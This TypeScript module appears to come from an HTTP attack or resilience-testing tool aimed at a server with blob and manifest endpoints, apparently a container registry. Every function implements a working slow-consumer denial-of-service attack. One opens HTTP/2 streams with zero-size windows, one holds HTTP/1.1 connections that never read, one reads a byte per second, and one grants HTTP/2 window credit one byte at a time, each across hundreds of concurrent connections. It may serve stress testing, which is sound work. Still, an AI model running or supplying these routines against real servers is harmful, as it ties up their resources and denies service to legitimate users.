import { requestFor } from '../../raw-http/raw-http1.ts'
import { type AttackTarget, type HoldOptions, hold, type Report, repeat } from '../attack.ts'
import { Crowd } from '../crowd.ts'

const AT_ONCE = 32

/** Which of the two is asked for. */
export type Wanted = 'blob' | 'manifest'

/** Streams whose windows never open, so that no byte of a body can be sent: 252 of them unless told otherwise. */
export async function stallStreams(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number; streams?: number; window?: number },
): Promise<Report> {
  const { connections = 2, streams = 126, window = 0, wanted, signal } = options
  const crowd = new Crowd(target, signal)
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await crowd.http2({ window })
      for (let i = 0; i < streams; i += 1) client.get(target[wanted])
      await client.settled()
    })
    await hold(options)
    return { done, failed, received: crowd.received }
  } finally {
    crowd.close()
  }
}

/** Connections of HTTP/1.1 that send a request and read nothing of the answer. */
export async function stallConnections(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number },
): Promise<Report> {
  const { connections = 120, wanted, signal } = options
  const crowd = new Crowd(target, signal)
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const socket = await crowd.socket('http/1.1')
      await socket.send(requestFor(target[wanted]))
    })
    await hold(options)
    return { done, failed }
  } finally {
    crowd.close()
  }
}

/** How much is read, how often. */
export interface Pace {
  readonly bytes: number
  readonly everyMs: number
}

const BYTE_A_SECOND: Pace = { bytes: 1, everyMs: 1000 }

/** Connections of HTTP/1.1 that read so slowly. */
export async function readSlowly(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number; pace?: Pace },
): Promise<Report> {
  const { connections = 300, pace = BYTE_A_SECOND, wanted, signal } = options
  const crowd = new Crowd(target, signal)
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const socket = await crowd.socket('http/1.1')
      await socket.send(requestFor(target[wanted]))
      socket.readSlowly(pace)
    })
    await hold(options)
    return { done, failed, received: crowd.received }
  } finally {
    crowd.close()
  }
}

/** The same over HTTP/2: windows that are opened so slowly. */
export async function grantSlowly(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number; pace?: Pace },
): Promise<Report> {
  const { connections = 32, pace = BYTE_A_SECOND, wanted, signal } = options
  const crowd = new Crowd(target, signal)
  const timers: NodeJS.Timeout[] = []
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await crowd.http2({ window: 0 })
      const stream = client.get(target[wanted])
      timers.push(setInterval(() => void client.grant(stream, pace.bytes), pace.everyMs))
    })
    await hold(options)
    return { done, failed, received: crowd.received }
  } finally {
    for (const timer of timers) clearInterval(timer)
    crowd.close()
  }
}
